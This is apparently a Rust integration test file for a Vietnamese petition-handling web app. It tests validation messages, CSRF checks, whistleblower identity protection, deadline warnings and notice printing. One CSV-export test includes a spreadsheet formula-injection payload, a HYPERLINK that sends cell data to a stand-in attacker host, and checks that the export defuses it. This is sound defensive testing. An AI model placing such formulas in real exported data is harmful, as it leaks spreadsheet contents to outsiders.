//! The petition pages over real HTTP: registering with bad input gets Vietnamese messages
//! beside the fields, a case page and its notices hide a protected denouncer from everyone
//! but a named handler who gives a reason, the register exports to CSV, the steering dashboard
//! drills down, and the deadline watch warns before a breach and flags it after.

use chrono::{Duration, Utc};
use motcua_domain::ids::UnitId;
use motcua_domain::role::Role;
use serde_json::{Value, json};

use crate::helpers::*;
use motcua_test_support::backend_test;

struct World {
    app: TestApp,
    commune: UnitId,
    /// Logged in as the handler who registers (and so is named on the case).
    handler: reqwest::Client,
    handler_csrf: String,
    /// Another handler of the same commune, not named on the case.
    colleague: reqwest::Client,
    colleague_csrf: String,
    head: reqwest::Client,
    admin_token: String,
}

impl World {
    async fn new(backend: Backend) -> Self {
        let app = TestApp::spawn(backend).await;
        let province = app.create_unit("96", "Tỉnh Demo", "province", None).await;
        let commune = app
            .create_unit("31825", "Phường Demo", "commune", Some(province))
            .await;
        app.create_user_in(
            "xulydon.a",
            Some(commune),
            &[(Role::PetitionHandler, Some(commune))],
        )
        .await;
        app.create_user_in(
            "xulydon.b",
            Some(commune),
            &[(Role::PetitionHandler, Some(commune))],
        )
        .await;
        app.create_user_in("lanhdao", Some(commune), &[(Role::Head, Some(commune))])
            .await;
        let admin = app
            .create_user("quantri", &[(Role::SystemAdmin, None)])
            .await;
        let (admin_token, _) = app
            .create_token(admin, &["petitions:read", "petitions:write"])
            .await;
        let handler = app.new_client();
        let handler_csrf = app.login(&handler, "xulydon.a").await;
        let colleague = app.new_client();
        let colleague_csrf = app.login(&colleague, "xulydon.b").await;
        let head = app.new_client();
        app.login(&head, "lanhdao").await;
        Self {
            app,
            commune,
            handler,
            handler_csrf,
            colleague,
            colleague_csrf,
            head,
            admin_token,
        }
    }

    async fn register(&self, fields: &[(&str, &str)]) -> reqwest::Response {
        let mut form: Vec<(&str, &str)> = vec![("csrf_token", self.handler_csrf.as_str())];
        form.extend_from_slice(fields);
        self.handler
            .post(self.app.url("/don-thu/dang-ky"))
            .form(&form)
            .send()
            .await
            .expect("POST")
    }

    /// Registers and returns the case page's path.
    async fn register_ok(&self, fields: &[(&str, &str)]) -> String {
        let r = self.register(fields).await;
        assert_eq!(r.status(), 303, "{}", r.text().await.unwrap_or_default());
        let to = r.headers()["location"].to_str().unwrap().to_owned();
        to.split('?').next().unwrap().to_owned()
    }

    async fn page(&self, client: &reqwest::Client, path: &str) -> (u16, String) {
        let r = self.app.get(client, path).await;
        (r.status().as_u16(), r.text().await.unwrap())
    }

    async fn act(&self, case: &str, fields: &[(&str, &str)]) -> reqwest::Response {
        let (_, html) = self.page(&self.handler, case).await;
        let version = html
            .split("name=\"version\" value=\"")
            .nth(1)
            .and_then(|s| s.split('"').next())
            .expect("a version field")
            .to_owned();
        let mut form: Vec<(&str, &str)> = vec![
            ("csrf_token", self.handler_csrf.as_str()),
            ("version", version.as_str()),
        ];
        form.extend_from_slice(fields);
        self.handler
            .post(self.app.url(&format!("{case}/thao-tac")))
            .form(&form)
            .send()
            .await
            .expect("POST")
    }
}

const NAME: &str = "Đoàn Thị Giấu Tên";
const ID_NUMBER: &str = "079185004321";
const PHONE: &str = "0911222333";

fn denunciation<'a>() -> Vec<(&'a str, &'a str)> {
    vec![
        ("kind", "to_cao"),
        ("source", "post"),
        ("subject", "Tố cáo việc thu tiền sai quy định"),
        (
            "content",
            "Tôi là Đoàn Thị Giấu Tên (0911222333), tố cáo trưởng ấp thu tiền làm đường trái quy định.",
        ),
        ("sender_name", NAME),
        ("sender_address", "Ấp Bắc, Phường Demo"),
        ("sender_id_number", ID_NUMBER),
        ("sender_phone", PHONE),
        ("respondent", RESPONDENT),
    ]
}

const RESPONDENT: &str = "Ông Trần Văn Mạnh, trưởng khóm Nam";

fn assert_hidden(what: &str, text: &str) {
    for secret in [NAME, ID_NUMBER, PHONE, "Giấu Tên", "Giau Ten"] {
        assert!(!text.contains(secret), "{secret} visible in {what}");
    }
}

backend_test! {
    async fn a_registration_with_bad_input_shows_messages_beside_the_fields(backend: Backend) {
        let w = World::new(backend).await;
        let r = w.register(&[("kind", "khieu_nai"), ("content", ""), ("sender_name", ""), ("sender_address", "")]).await;
        assert_eq!(r.status(), 422);
        let html = r.text().await.unwrap();
        assert!(html.contains("Cần ghi nội dung đơn"), "content message");
        assert!(html.contains("Cần ghi họ tên người gửi"), "sender message");
        assert!(html.contains("aria-invalid=\"true\""));
        let r = w.register(&[("kind", "khieu_nai"), ("kind_also", "kien_nghi"), ("content", "Hai nội dung"), ("sender_name", "A"), ("sender_address", "B")]).await;
        assert_eq!(r.status(), 422);
        assert!(r.text().await.unwrap().contains("tách thành từng đơn"));
        // Without a CSRF token nothing is registered.
        let r = w.handler.post(w.app.url("/don-thu/dang-ky")).form(&[("kind", "khieu_nai"), ("content", "x"), ("sender_name", "A"), ("sender_address", "B")]).send().await.unwrap();
        assert_eq!(r.status(), 403);
        let (_, list) = w.page(&w.handler, "/don-thu").await;
        assert!(list.contains("Không có đơn nào"));
        w.app.stop().await;
    }

    async fn a_registration_past_a_field_maximum_is_refused_beside_the_field(backend: Backend) {
        let w = World::new(backend).await;
        let long_name = "Nguyễn ".repeat(40);
        let r = w.register(&[("kind", "khieu_nai"), ("content", "Khiếu nại việc cấp giấy chậm."), ("sender_name", long_name.as_str()), ("sender_address", "Ấp Bắc")]).await;
        assert_eq!(r.status(), 422);
        let html = r.text().await.unwrap();
        assert!(html.contains("Họ tên người gửi dài quá mức cho phép: tối đa 200 ký tự."), "{html}");
        assert!(html.contains("aria-invalid=\"true\""));
        let (_, list) = w.page(&w.handler, "/don-thu").await;
        assert!(list.contains("Không có đơn nào"));
        w.app.stop().await;
    }

    async fn the_register_csv_never_hands_a_spreadsheet_a_formula(backend: Backend) {
        let w = World::new(backend).await;
        let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")";
        w.register_ok(&[
            ("kind", "khieu_nai"),
            ("subject", "@SUM(1+1)"),
            ("content", "Khiếu nại việc cấp giấy chứng nhận chậm."),
            ("sender_name", formula),
            ("sender_address", "Ấp Bắc, Phường Demo"),
        ])
        .await;
        let (status, text) = w.page(&w.handler, "/don-thu?dinh_dang=csv").await;
        assert_eq!(status, 200);
        let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let row = reader.records().next().expect("one row").expect("csv");
        assert_eq!(&row[2], format!("'{formula}"));
        assert_eq!(&row[3], "'@SUM(1+1)");
        w.app.stop().await;
    }

    async fn a_protected_denouncer_stays_hidden_from_officers_without_the_grant(backend: Backend) {
        let logs = captured_logs();
        let w = World::new(backend).await;
        let case = w.register_ok(&denunciation()).await;
        let r = w.act(&case, &[("action", "classify")]).await;
        assert_eq!(r.status(), 303);
        let r = w.act(&case, &[("action", "accept"), ("complexity", "normal")]).await;
        assert_eq!(r.status(), 303);
        let r = w.act(&case, &[("action", "extend"), ("days", "30"), ("text", "Cần thêm thời gian")]).await;
        assert_eq!(r.status(), 409, "a normal case may not be extended");
        // Everything a colleague or the head can open.
        for (who, client) in [("colleague", &w.colleague), ("head", &w.head), ("handler", &w.handler)] {
            for path in [
                case.clone(),
                "/don-thu".to_owned(),
                "/don-thu?dinh_dang=csv".to_owned(),
                "/don-thu?q=giau+ten".to_owned(),
                "/chi-dao".to_owned(),
                format!("{case}/van-ban/thu-ly"),
                "/api/v1/petitions".to_owned(),
            ] {
                let (status, text) = w.page(client, &path).await;
                assert_eq!(status, 200, "{who} {path}");
                assert_hidden(&format!("{who} {path}"), &text);
            }
        }
        // A search for the name finds nothing: it is not in the searchable text.
        let (_, found) = w.page(&w.head, "/don-thu?q=giau+ten").await;
        assert!(found.contains("Không có đơn nào"));
        // The colleague has no reveal form; posting one anyway is refused.
        let (_, html) = w.page(&w.colleague, &case).await;
        assert!(!html.contains("reveal-form"));
        assert!(html.contains("identity-hidden"));
        let r = w.colleague.post(w.app.url(&format!("{case}/tiet-lo"))).form(&[("csrf_token", w.colleague_csrf.as_str()), ("reason", "Tò mò muốn biết")]).send().await.unwrap();
        assert_eq!(r.status(), 403);
        assert_hidden("refused reveal", &r.text().await.unwrap());
        // The named handler must give a reason, then sees the identity on that answer only.
        let r = w.handler.post(w.app.url(&format!("{case}/tiet-lo"))).form(&[("csrf_token", w.handler_csrf.as_str()), ("reason", "")]).send().await.unwrap();
        assert_eq!(r.status(), 422);
        let html = r.text().await.unwrap();
        assert!(html.contains("Cần ghi rõ lý do"));
        assert_hidden("reveal without a reason", &html);
        let r = w.handler.post(w.app.url(&format!("{case}/tiet-lo"))).form(&[("csrf_token", w.handler_csrf.as_str()), ("reason", "Mời người tố cáo cung cấp chứng cứ")]).send().await.unwrap();
        assert_eq!(r.status(), 200);
        let html = r.text().await.unwrap();
        assert!(html.contains(NAME) && html.contains(ID_NUMBER));
        let (_, again) = w.page(&w.handler, &case).await;
        assert_hidden("the case page after a reveal", &again);
        w.app.stop().await;
        // Not one log line of the whole run names the denouncer, though the logs are at debug
        // level and did record this case's requests.
        let text = String::from_utf8_lossy(&logs.lock().unwrap()).into_owned();
        assert!(text.contains("/tiet-lo"), "the capture saw the requests");
        assert_hidden("the logs", &text);
    }

    async fn the_watch_warns_before_a_breach_and_flags_it_after(backend: Backend) {
        let w = World::new(backend).await;
        let at = |days: i64| motcua_domain::vn_local(Utc::now() - Duration::days(days)).format("%Y-%m-%dT%H:%M").to_string();
        let old = at(60);
        // Received so that its seven working days end on the next working day after today,
        // whatever today is (Tết included): one or two working days remain, within the
        // three-day warning lead. (Eight calendar days ago, across Tết, left all seven.)
        let recent = {
            let (_, cal) = crate::dossier_fixtures::calendar();
            let working = |d: chrono::NaiveDate| cal.is_working_day(d).expect("a day in the calendar");
            let mut first = motcua_domain::vn_date(Utc::now()).succ_opt().unwrap();
            while !working(first) {
                first = first.succ_opt().unwrap();
            }
            let mut counted = 1;
            while counted < 7 {
                first = first.pred_opt().unwrap();
                counted += u32::from(working(first));
            }
            // Counting starts the day after receipt (BLDS 2015, Điều 147).
            format!("{}T09:00", first.pred_opt().unwrap().format("%Y-%m-%d"))
        };
        let fresh = at(0);
        let base = [("kind", "khieu_nai"), ("content", "Khiếu nại việc cấp giấy chứng nhận"), ("sender_name", "Võ Văn Tư"), ("sender_address", "Ấp Nam")];
        for received in [&old, &recent, &fresh] {
            let mut f = base.to_vec();
            f.push(("received_at", received.as_str()));
            f.push(("subject", received.as_str()));
            w.register_ok(&f).await;
        }
        let r = w.app.client.post(w.app.url("/api/v1/petitions/watch")).bearer_auth(&w.admin_token).send().await.unwrap();
        assert_eq!(r.status(), 200);
        let report: Value = r.json().await.unwrap();
        assert_eq!(report["checked"], 3);
        let list: Value = w.head.get(w.app.url("/api/v1/petitions")).send().await.unwrap().json().await.unwrap();
        let flag = |subject: &str| -> Value {
            list.as_array().unwrap().iter().find(|p| p["subject"] == subject).unwrap()["watch_flag"].clone()
        };
        assert_eq!(flag(&old), json!("overdue"));
        assert_eq!(flag(&fresh), Value::Null);
        assert_eq!(flag(&recent), json!("due_soon"));
        // The dashboard shows the overdue one, with a link to it.
        let (_, html) = w.page(&w.head, "/chi-dao").await;
        assert!(html.contains("id=\"total-overdue\">1<"), "{html}");
        // On a phone each cell shows its column's name (the table collapses into cards).
        assert!(html.matches("<td").count() > 0);
        assert_eq!(html.matches("<td").count(), html.matches("<td data-label=\"").count(), "a cell without a label");
        assert!(!html.contains("data-label=\"\""), "an empty label");
        assert!(html.contains(&format!("unit_id={}", w.commune)));
        w.app.stop().await;
    }
}

backend_test! {
    async fn every_notice_prints_as_html_and_pdf_once_its_decision_is_taken(backend: Backend) {
        let w = World::new(backend).await;
        let denunciation_case = w.register_ok(&denunciation()).await;
        // Before acceptance there is no acceptance notice to print.
        let r = w.app.get(&w.handler, &format!("{denunciation_case}/van-ban/thu-ly")).await;
        assert_eq!(r.status(), 409);
        for step in [
            vec![("action", "classify")],
            vec![("action", "accept"), ("complexity", "complex"), ("complexity_reason", "Xác minh ở hai nơi")],
            vec![("action", "extend"), ("days", "15"), ("text", "Chờ kết quả xác minh")],
            vec![("action", "decide"), ("text", "Tố cáo đúng một phần")],
        ] {
            let r = w.act(&denunciation_case, &step).await;
            assert_eq!(r.status(), 303, "{step:?}");
        }
        let complaint_case = w.register_ok(&[("kind", "khieu_nai"), ("content", "Khiếu nại việc thu phí chợ"), ("sender_name", "Lê Văn Chín"), ("sender_address", "Ấp Chợ")]).await;
        assert_eq!(w.act(&complaint_case, &[("action", "classify")]).await.status(), 303);
        assert_eq!(w.act(&complaint_case, &[("action", "not_accept"), ("reason_code", "no_direct_interest")]).await.status(), 303);
        let forwarded_case = w.register_ok(&[("kind", "kien_nghi"), ("content", "Kiến nghị sửa cầu khỉ"), ("sender_name", "Trương Văn Mười"), ("sender_address", "Ấp Cầu")]).await;
        assert_eq!(w.act(&forwarded_case, &[("action", "classify")]).await.status(), 303);
        assert_eq!(w.act(&forwarded_case, &[("action", "forward"), ("agency", "Sở Giao thông vận tải")]).await.status(), 303);
        for (case, notice, expect) in [
            (&denunciation_case, "thu-ly", "Người tố cáo"),
            (&denunciation_case, "gia-han", "15"),
            (&denunciation_case, "quyet-dinh", "Tố cáo đúng một phần"),
            (&complaint_case, "khong-thu-ly", "Lê Văn Chín"),
            (&forwarded_case, "chuyen-don", "Sở Giao thông vận tải"),
        ] {
            let (status, html) = w.page(&w.head, &format!("{case}/van-ban/{notice}")).await;
            assert_eq!(status, 200, "{notice}");
            assert!(html.contains(expect), "{notice} lacks {expect}");
            assert_hidden(notice, &html);
            let r = w.app.get(&w.head, &format!("{case}/van-ban/{notice}.pdf")).await;
            assert_eq!(r.status(), 200, "{notice}.pdf");
            assert_eq!(r.headers()["content-type"], "application/pdf");
            let bytes = r.bytes().await.unwrap();
            assert!(bytes.starts_with(b"%PDF"), "{notice}.pdf");
        }
        let r = w.app.get(&w.head, &format!("{denunciation_case}/van-ban/khong-co")).await;
        assert_eq!(r.status(), 404);
        // Each copy to its addressee. The person denounced: named, with the denouncer's pseudonym
        // and the deadline as a date.
        let (status, denounced) = w.page(&w.head, &format!("{denunciation_case}/van-ban/thu-ly-bi-to-cao")).await;
        assert_eq!(status, 200);
        assert!(denounced.contains(RESPONDENT) && denounced.contains("Người tố cáo"), "{denounced}");
        assert!(denounced.contains("đến hết ngày"), "the deadline is a date");
        assert!(!denounced.contains("Hạn giải quyết: "), "no label in place of the date");
        assert_hidden("the copy to the person denounced", &denounced);
        // The denouncer's own copy carries their name: a reveal by a named handler, with a reason.
        let (case_page_status, case_page) = w.page(&w.handler, &denunciation_case).await;
        assert_eq!(case_page_status, 200);
        assert!(case_page.contains(r#"id="denouncer-copy-form""#));
        let copy = |client: &reqwest::Client, csrf: &str, reason: &str| {
            let form = vec![("csrf_token", csrf.to_owned()), ("reason", reason.to_owned())];
            let req = client.post(w.app.url(&format!("{denunciation_case}/van-ban/thu-ly/nguoi-to-cao"))).form(&form);
            async move { req.send().await.unwrap() }
        };
        assert_eq!(copy(&w.colleague, &w.colleague_csrf, "Gửi thông báo thụ lý qua bưu điện").await.status(), 403, "not a named handler");
        assert_eq!(copy(&w.handler, &w.handler_csrf, "ngắn").await.status(), 422, "a reason is required");
        let r = copy(&w.handler, &w.handler_csrf, "Gửi thông báo thụ lý qua bưu điện").await;
        assert_eq!(r.status(), 200);
        let own = r.text().await.unwrap();
        assert!(own.contains(NAME), "the denouncer's copy is addressed to them by name");
        w.app.stop().await;
    }

    async fn a_complaint_offers_nothing_that_only_a_denunciation_has_and_names_its_status_once(backend: Backend) {
        let w = World::new(backend).await;
        let case = w.register_ok(&[
            ("kind", "khieu_nai"),
            ("content", "Khiếu nại quyết định thu phí chợ"),
            ("sender_name", "Lê Văn Chín"),
            ("sender_address", "Ấp Chợ"),
            ("respondent", "Chủ tịch Ủy ban nhân dân Phường Demo"),
        ]).await;
        let steps: [&[(&str, &str)]; 3] = [
            &[],
            &[("action", "classify")],
            &[("action", "accept"), ("complexity", "normal")],
        ];
        for (i, step) in steps.iter().enumerate() {
            if !step.is_empty() {
                assert_eq!(w.act(&case, step).await.status(), 303, "{step:?}");
            }
            let (status, html) = w.page(&w.handler, &case).await;
            assert_eq!(status, 200);
            let main = &html[html.find("<main").expect("main")..];
            // Nothing of the Law on Denunciation: no reason, action, notice, identity section or
            // label that belongs to a denunciation.
            assert!(!main.to_lowercase().contains("tố cáo"), "step {i}: {main}");
            for only_denunciation in ["form-keep_for_inspection", "notice-thu-ly-bi-to-cao", "notice-gia-han", "identity-heading", "extend-days"] {
                assert!(!main.contains(only_denunciation), "step {i}: {only_denunciation}");
            }
            assert!(main.contains("Người, cơ quan bị khiếu nại"), "the respondent is named for a complaint");
            // The status once, in the facts; the timeline names events, not statuses.
            let status_text = main
                .split(r#"id="petition-status""#)
                .nth(1)
                .and_then(|s| s.split('>').nth(1))
                .and_then(|s| s.split(['<', '\u{b7}']).next())
                .expect("the status")
                .trim()
                .to_owned();
            assert!(!status_text.is_empty());
            // What the page shows (the forms below offer choices, not states).
            let shown = main.split(r#"id="actions-heading""#).next().unwrap_or(main);
            assert_eq!(shown.matches(status_text.as_str()).count(), 1, "step {i}: {status_text} more than once");
        }
        // A denunciation's page does name the person denounced as such.
        let denounced = w.register_ok(&denunciation()).await;
        let (_, html) = w.page(&w.handler, &denounced).await;
        assert!(html.contains("Người, cơ quan, tổ chức bị tố cáo"));
    }

    async fn a_complaint_found_complex_after_acceptance_gets_the_complex_period_once(backend: Backend) {
        let w = World::new(backend).await;
        let case = w.register_ok(&[
            ("kind", "khieu_nai"),
            ("content", "Khiếu nại quyết định thu hồi đất"),
            ("sender_name", "Lê Văn Chín"),
            ("sender_address", "Ấp Chợ"),
        ]).await;
        assert_eq!(w.act(&case, &[("action", "classify")]).await.status(), 303);
        assert_eq!(w.act(&case, &[("action", "accept"), ("complexity", "normal")]).await.status(), 303);
        let id = case.trim_start_matches("/don-thu/").to_owned();
        let due = |app: &TestApp| {
            let id = id.clone();
            let db = app.db.clone();
            async move {
                let rec = motcua_store::petitions::get(&db, motcua_domain::ids::PetitionId::parse(&id).unwrap()).await.unwrap();
                (rec.due_at.expect("a due date"), rec.complexity)
            }
        };
        let (before, complexity) = due(&w.app).await;
        assert_eq!(complexity, "normal");
        let (_, html) = w.page(&w.handler, &case).await;
        assert!(html.contains(r#"id="form-extend""#) && html.contains(r#"id="extend-complaint-hint""#), "the prolongation is offered");
        assert!(!html.contains(r#"name="days""#), "no days to choose: the rules give the period");

        // Without the grounds in writing: refused beside the field.
        let r = w.act(&case, &[("action", "extend"), ("text", "")]).await;
        assert_eq!(r.status(), 422);
        assert_eq!(due(&w.app).await.0, before);

        let r = w.act(&case, &[("action", "extend"), ("text", "Phải xác minh ở hai địa điểm")]).await;
        assert_eq!(r.status(), 303);
        let (after, complexity) = due(&w.app).await;
        assert_eq!(complexity, "complex");
        // 30 days become 45 (Luật Khiếu nại 2011, Điều 28): fifteen days or more later, counting
        // the calendar's days off.
        assert!(after - before >= Duration::days(15), "{before} → {after}");
        let (_, html) = w.page(&w.handler, &case).await;
        assert!(!html.contains(r#"id="form-extend""#), "once only");
        assert!(!html.contains("notice-gia-han"), "no denunciation notice for a complaint");
    }
}
